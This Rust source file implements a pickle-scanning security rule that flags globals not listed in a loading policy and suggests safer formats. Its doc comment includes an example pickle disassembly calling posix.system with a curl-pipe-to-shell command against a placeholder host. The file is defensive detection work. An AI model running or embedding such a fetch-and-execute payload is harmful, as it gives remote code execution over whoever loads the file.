//! Globals that the policy does not allow: the heart of the gate.

use rustc_hash::{FxHashMap, FxHashSet};

use super::{
    Case, GlobalUse, advice, more,
    payload::{self, Payloads},
    within::Within,
};
use crate::{
    fact::{Argument, Fact, FactKind, Global, GlobalName, Hop, Observation, Place, Text, Usage},
    finding::{Finding, Level, Location, Subject},
    limits,
    policy::{self, ArgumentVerdict, FormatVerdict, GlobalVerdict, Refusal, Standing},
};

declare_rule! {
    /// ## What it does
    ///
    /// Refuses every global that loading an artifact imports, calls, instantiates or sets state on, unless the policy lists
    /// it for that use, under the module and the name that the artifact stores.
    ///
    /// ## Why it matters
    ///
    /// A pickle is a program: loading it imports what it names and runs what it calls, before the caller sees a result. Every
    /// installed package has functions that an attacker can misuse, so a list of dangerous names is never complete. An honest
    /// checkpoint needs few names, and they are the same in every file.
    ///
    /// A class of the same name in another module does not count: loading would import that other module.
    ///
    /// ## Example
    ///
    /// ```text
    /// 0x0002  GLOBAL            posix system
    /// 0x0011  BINUNICODE        'curl https://example.com/x | sh'
    /// 0x0039  REDUCE            posix.system('curl https://example.com/x | sh')
    /// ```
    ///
    /// ## Use instead
    ///
    /// Weights without code: safetensors, or a state dict that `weights_only=True` loads. Where a class of yours must be
    /// stored, list exactly the stored path.
    ///
    /// ```yaml
    /// version: 1
    /// extends: recommended
    /// globals:
    ///   allow:
    ///     - myapp.config.TrainingConfig
    /// ```
    "global-not-allowed", "a global that the policy does not list",
    level: Deny, severity: Critical, precision: VeryHigh, cwe: [502], tags: ["artifact", "pickle"],
    check
}

/// What is said of one global at one place in the artifact.
struct Refused<'a> {
    hops: &'a [Hop],
    name: &'a GlobalName,
    /// Its refused uses, each once, and where it has the most telling of them.
    usages: Vec<Usage>,
    usage: Usage,
    observation: &'a Observation,
    /// Where it is resolved.
    import: Option<&'a Observation>,
    /// Whether nothing but a missing entry stands against it.
    plain: bool,
    /// Whether it is known to be dangerous.
    dangerous: bool,
    /// What about it is in the policy.
    standing: Standing,
}

type Calls<'a> = FxHashMap<(&'a [Hop], &'a GlobalName), Vec<&'a Observation>>;

/// Globals of a file for which a listed name is looked for that may have been meant: that looks at every entry there is.
const NEARBY: usize = 20;

fn check(case: &Case<'_>, findings: &mut Vec<Finding>) {
    let payloads = Payloads::new(case);
    let mut refused = refused(case);
    if !refused.is_empty() {
        let calls = calls(case);
        let advice = advice::Allowing::new(
            case,
            refused
                .iter()
                .filter(|refused| refused.plain)
                .map(|refused| (refused.name, refused.usages.as_slice())),
        );
        // How many of them are told is bounded; what is dangerous comes first.
        let total = refused.len();
        if total > limits::FINDINGS {
            refused.sort_by_key(|refused| (!refused.dangerous, refused.plain));
            refused.truncate(limits::FINDINGS);
        }
        for (n, refused) in refused.iter().enumerate() {
            let mut finding = finding(case, refused, (&calls, &payloads), n < NEARBY);
            help(refused, &advice, &mut finding);
            findings.push(finding);
        }
        let left = total.saturating_sub(refused.len());
        if left > 0 {
            let left = u64::try_from(left).unwrap_or(u64::MAX);
            let own = findings.iter();
            let last = own.max_by(|a, b| a.primary.site.cmp(&b.primary.site));
            findings.extend(last.map(|last| more(last, left)));
        }
    }
    let mut told: FxHashSet<(&[Hop], &GlobalName)> = FxHashSet::default();
    for observation in case.of_kind(FactKind::Call) {
        arguments(case, (observation, &payloads), &mut told, findings);
    }
    for observation in case.of_kind(FactKind::HandedOn) {
        handed_on(case, observation, &told, findings);
    }
}

/// Every global that is refused, once for each place it is in.
fn refused<'a>(case: &Case<'a>) -> Vec<Refused<'a>> {
    let script = Within::new(
        case.of_kind(FactKind::Is),
        |fact| matches!(fact, Fact::Is(id) if id == "torch-script"),
    );
    let (nested, ordinary) = (nested(case), ordinary(case));
    let mut refused: Vec<Refused<'a>> = Vec::new();
    let mut known: FxHashMap<(&[Hop], &GlobalName), usize> = FxHashMap::default();
    for GlobalUse {
        observation,
        global,
        usage,
    } in case.globals()
    {
        let Global::Named(name) = global else {
            continue;
        };
        let hops = observation.site.hops.as_slice();
        let ruling = case.scope.globals().ruling(name);
        if ruling.allows(usage)
            || (is_torchscript(name) && script.holds(hops))
            || usage == Usage::Import && nested.contains(name)
        {
            continue;
        }
        let at = *known.entry((hops, name)).or_insert(refused.len());
        let Some(one) = refused.get_mut(at) else {
            let (standing, dangerous) = (ruling.standing(), ruling.danger().is_some());
            refused.push(Refused {
                hops,
                name,
                usages: vec![usage],
                usage,
                observation,
                import: (usage == Usage::Import).then_some(observation),
                plain: (!dangerous || ordinary.contains(name))
                    && matches!(standing, Standing::Unlisted | Standing::Listed),
                dangerous,
                standing,
            });
            continue;
        };
        one.usages.push(usage);
        if usage == Usage::Import {
            one.import = one.import.or(Some(observation));
        }
        // Calling says more than importing, and state more than neither.
        if rank(usage) > rank(one.usage) {
            (one.usage, one.observation) = (usage, observation);
        }
    }
    // Where the artifact's format is refused as such, what else the policy would have to list for it is no news; what is
    // dangerous or refused by name still is.
    let is_refused = case.scope.level(&super::format_not_allowed::META) == Level::Deny;
    if is_refused && !case.formats_may_pass {
        let formats = Within::new(
            case.of_kind(FactKind::Is),
            |fact| matches!(fact, Fact::Is(id) if matches!(case.scope.format(id.as_str()), FormatVerdict::Refused { .. })),
        );
        if !formats.is_empty() {
            refused.retain(|one| {
                let unlisted = one.plain && one.standing == Standing::Unlisted;
                !(unlisted && formats.holds(one.hops))
            });
        }
    }
    refused
}

/// Names that are dangerous, and that this file uses only as picklers do for ordinary objects: called, with arguments that an
/// entry can constrain.
fn ordinary<'a>(case: &Case<'a>) -> FxHashSet<&'a GlobalName> {
    let mut ordinary: FxHashSet<&GlobalName> = FxHashSet::default();
    let mut other: FxHashSet<&GlobalName> = FxHashSet::default();
    for call in case.calls() {
        if let Global::Named(name) = call.callee {
            if policy::is_constrained_call(name, call.arguments) {
                ordinary.insert(name);
            } else {
                other.insert(name);
            }
        }
    }
    for observation in case.of_kind(FactKind::HandedOn) {
        if let Fact::HandedOn {
            global: Global::Named(name),
        } = &observation.fact
        {
            other.insert(name);
        }
    }
    ordinary.retain(|name| !other.contains(name));
    ordinary
}

/// The names that the policy does not allow in a file, each with the uses that are made of it and whether an entry may allow it.
pub(super) fn names<'a>(case: &Case<'a>) -> Vec<(&'a GlobalName, Vec<Usage>, bool)> {
    let refused = refused(case).into_iter();
    refused
        .map(|one| (one.name, one.usages, one.plain))
        .collect()
}

fn rank(usage: Usage) -> u8 {
    match usage {
        Usage::Import => 0,
        Usage::Build => 1,
        Usage::Construct => 2,
        Usage::Call => 3,
        Usage::Configure => 4,
    }
}

/// Classes named `__torch__.*` are a TorchScript archive's own code, which is judged as such.
fn is_torchscript(name: &GlobalName) -> bool {
    let module = name.module.as_bytes();
    module == b"__torch__" || module.starts_with(b"__torch__.")
}

/// The names in classes that `getattr` looks up, where the policy allows the class and such a call of `getattr`.
fn nested(case: &Case<'_>) -> FxHashSet<GlobalName> {
    let getattr = GlobalName::new("builtins", "getattr");
    let mut nested = FxHashSet::default();
    for observation in case.of_kind(FactKind::Attribute) {
        let Fact::Attribute { class, attribute } = &observation.fact else {
            continue;
        };
        let arguments = [
            Argument::Global(Global::Named(class.clone())),
            Argument::Str(attribute.clone()),
        ];
        if case.scope.globals().allows(&getattr, Usage::Call)
            && case.scope.globals().allows(class, Usage::Import)
            && case.scope.globals().arguments(&getattr, &arguments) == ArgumentVerdict::Allowed
        {
            let whole = [class.name.as_bytes(), b".", attribute.as_bytes()].concat();
            nested.insert(GlobalName {
                module: class.module.clone(),
                name: Text::new(whole),
            });
        }
    }
    nested
}

/// The calls of each global at each place, in order.
fn calls<'a>(case: &Case<'a>) -> Calls<'a> {
    let mut calls = Calls::default();
    for call in case.calls() {
        if let Global::Named(callee) = call.callee {
            calls
                .entry((call.observation.site.hops.as_slice(), callee))
                .or_default()
                .push(call.observation);
        }
    }
    calls
}

/// What loading would do, why that is refused, and the policy line that decided.
fn finding<'a>(
    case: &Case<'a>,
    refused: &Refused<'a>,
    (calls, payloads): (&Calls<'a>, &Payloads<'a>),
    nearby: bool,
) -> Finding {
    let Refused {
        name,
        usage,
        observation,
        ..
    } = refused;
    // The call with its arguments says what would happen; otherwise the use does.
    let calls = calls.get(&(refused.hops, *name));
    let calls = calls.map_or(&[][..], Vec::as_slice);
    let call = calls.first();
    let call = call.filter(|_| matches!(usage, Usage::Call | Usage::Construct | Usage::Configure));
    let what = match call.map(|o| &o.fact) {
        Some(Fact::Call {
            callee,
            given,
            usage,
            ..
        }) => match usage {
            Usage::Construct => format!("loading creates `{}`", given.of(callee)),
            _ => format!("loading runs `{}`", given.of(callee)),
        },
        _ => match usage {
            Usage::Import => format!("loading imports `{name}`"),
            Usage::Build => format!("loading sets the state of what `{name}` made"),
            Usage::Call | Usage::Configure => format!("loading calls `{name}`"),
            Usage::Construct => format!("loading creates an instance of `{name}`"),
        },
    };
    let shown = call.copied().unwrap_or(observation);
    let mut finding = case.finding(&META, shown, String::new());
    finding.count = observation.count;
    finding.dangerous = !refused.plain;
    finding.subject = Subject::Global(Global::Named((*name).clone()));
    if let Subject::Global(global) = &finding.subject {
        let contents = payload::contents_run(case, global);
        let calls = calls.iter().copied();
        finding.payload = payloads.of_global(refused.hops, global, contents, calls);
    }
    finding.related.extend(imported(case, refused, shown));
    let GlobalVerdict::Refused {
        why,
        decided_by,
        danger,
    } = case.scope.globals().verdict(name, *usage)
    else {
        return finding;
    };
    finding.decided_by = decided_by;
    let spelled = spelled(name);
    let danger_note = danger
        .map(|danger| format!(" (it {danger})"))
        .unwrap_or_default();
    let reason = match why {
        Refusal::Unlisted { .. } => format!("the policy does not list `{spelled}`{danger_note}"),
        Refusal::Use { allowed } if allowed == [Usage::Configure] => {
            format!("the policy lists `{name}` only for descriptions of models{danger_note}")
        }
        Refusal::Use { allowed } => {
            let allowed: Vec<String> = allowed.iter().map(ToString::to_string).collect();
            format!(
                "the policy lists `{name}` for {} only, not for {usage}{danger_note}",
                allowed.join(" and "),
            )
        }
        Refusal::Refused => format!("the policy refuses `{name}`{danger_note}"),
    };
    finding.message = format!("{what}; {reason}");
    if nearby
        && refused.standing == Standing::Unlisted
        && let Some(near) = case.scope.globals().near(name)
    {
        let list = if policy::may_be_entered(name, &[]) {
            format!(", or list `{spelled}` if that is what loads it")
        } else {
            String::new()
        };
        finding.help.push(format!(
            "the policy lists `{near}`, which is another name: what counts is the stored module and name; save again from the listed module{list}"
        ));
    }
    finding
}

/// Where the global is resolved, if the lines that show its use do not show that: a pickle can keep it in the memo for long.
fn imported(case: &Case<'_>, refused: &Refused<'_>, shown: &Observation) -> Option<Location> {
    let import = refused.import?;
    let Place::Opcode { offset, .. } = import.site.at else {
        return None;
    };
    let excerpt = case.excerpt(shown);
    let is_shown =
        import.site == shown.site || excerpt.is_some_and(|lines| lines.shows_opcode_at(offset));
    (!is_shown).then(|| case.location(import, format!("`{}` is imported here", refused.name)))
}

fn is_copyreg(name: &GlobalName) -> bool {
    name.module == *"copyreg" || name.module == *"copy_reg"
}

/// Where the loader splits the name, the division is part of it.
fn spelled(name: &GlobalName) -> String {
    if name.name.as_bytes().contains(&b'.') {
        format!("{}:{}", name.module, name.name)
    } else {
        name.to_string()
    }
}

/// The ways out.
fn help(refused: &Refused<'_>, advice: &advice::Allowing, finding: &mut Finding) {
    let name = refused.name;
    if refused.standing == Standing::InPack && !refused.dangerous {
        finding.help.push(format!(
            "no release of the library uses `{name}` so: do not load this file, or report it if the library wrote it"
        ));
        return;
    }
    if !refused.plain && name.name == *"_reconstructor" && is_copyreg(name) {
        finding.help.push(
            "pickles of protocol 0 and 1 make instances of classes that extend a built-in type through it: if the file is yours, save it again with protocol 2 or newer",
        );
        return;
    }
    if !refused.plain {
        finding
            .help
            .push("do not load this file; find out who made it and how it came here");
        let instead = if advice.is_torch() {
            "save the weights alone: `safetensors.torch.save_file(model.state_dict(), path)`"
        } else if name.module.as_bytes().starts_with(b"keras.") {
            "make the model in code and keep only its weights: `model.save_weights(\"model.weights.h5\")`"
        } else {
            "keep data in a format that holds only data: safetensors, npy, JSON"
        };
        finding
            .help
            .push(format!("if the file is yours, {instead}"));
        return;
    }
    finding
        .help
        .extend(advice::without_pickle(name).map(String::from));
    finding.answer = advice.of(name).cloned();
    if finding.answer.is_some() {
        return;
    }
    if name.module.as_bytes().starts_with(b"spacy.registry.") {
        finding.help.push(format!(
            "the package that registers it runs: read its code, and list `{}` as `configure` if that is what it is for",
            spelled(name)
        ));
        return;
    }
    finding.help.push(match advice.too_many() {
        Some(names) => format!("no entries are proposed for {names} names: a file of data needs none"),
        None => format!(
            "no entry is proposed for `{}`: it is private, reached through something that is no class, or used as no entry allows; save the object again under the name and from the module that define it",
            spelled(name)
        ),
    });
    finding.help.push(advice::data_alone(advice.is_torch()));
}

/// Entries that allow a global only with certain arguments.
fn arguments<'a>(
    case: &Case<'a>,
    (observation, payloads): (&'a Observation, &Payloads<'a>),
    told: &mut FxHashSet<(&'a [Hop], &'a GlobalName)>,
    findings: &mut Vec<Finding>,
) {
    let Fact::Call {
        callee,
        usage,
        given,
        arguments,
    } = &observation.fact
    else {
        return;
    };
    let call = given.of(callee);
    if let Global::Named(name) = callee
        && case.scope.globals().allows(name, *usage)
        && let ArgumentVerdict::Refused { reason, decided_by } =
            case.scope.globals().arguments(name, arguments)
    {
        let message = format!(
            "loading runs `{call}`; the policy allows `{name}` only with other arguments: {reason}"
        );
        let mut finding = case.finding(&META, observation, message);
        finding.subject = Subject::Global(callee.clone());
        finding.payload = payloads.of_global(&observation.site.hops, callee, false, [observation]);
        finding.decided_by = decided_by;
        finding
            .help
            .push("look at what the call does before allowing it with other arguments");
        findings.push(finding);
    }
    for argument in arguments {
        if let Argument::Global(Global::Named(name)) = argument
            && case.scope.globals().constrains(name)
        {
            let to = format!("to `{call}`, which");
            findings.push(handed(case, observation, name, &to));
            told.insert((observation.site.hops.as_slice(), name));
        }
    }
}

/// The same where no call has it among its own arguments: inside another container, in a state, past the arguments that
/// are kept.
fn handed_on(
    case: &Case<'_>,
    observation: &Observation,
    told: &FxHashSet<(&[Hop], &GlobalName)>,
    findings: &mut Vec<Finding>,
) {
    let Fact::HandedOn {
        global: Global::Named(name),
    } = &observation.fact
    else {
        return;
    };
    if !case.scope.globals().constrains(name)
        || told.contains(&(observation.site.hops.as_slice(), name))
    {
        return;
    }
    findings.push(handed(
        case,
        observation,
        name,
        "on inside other values: what receives it",
    ));
}

fn handed(case: &Case<'_>, observation: &Observation, name: &GlobalName, to: &str) -> Finding {
    let message = format!(
        "loading hands `{name}` {to} could call it with any arguments; the policy constrains them"
    );
    let mut finding = case.finding(&META, observation, message);
    finding.subject = Subject::Global(Global::Named(name.clone()));
    if let ArgumentVerdict::Refused { decided_by, .. } =
        case.scope.globals().arguments(name, &[Argument::Unknown])
    {
        finding.decided_by = decided_by;
    }
    finding.help.push(format!(
        "save the object without handing `{name}` on, or list it without `args` if any arguments are harmless"
    ));
    finding
}
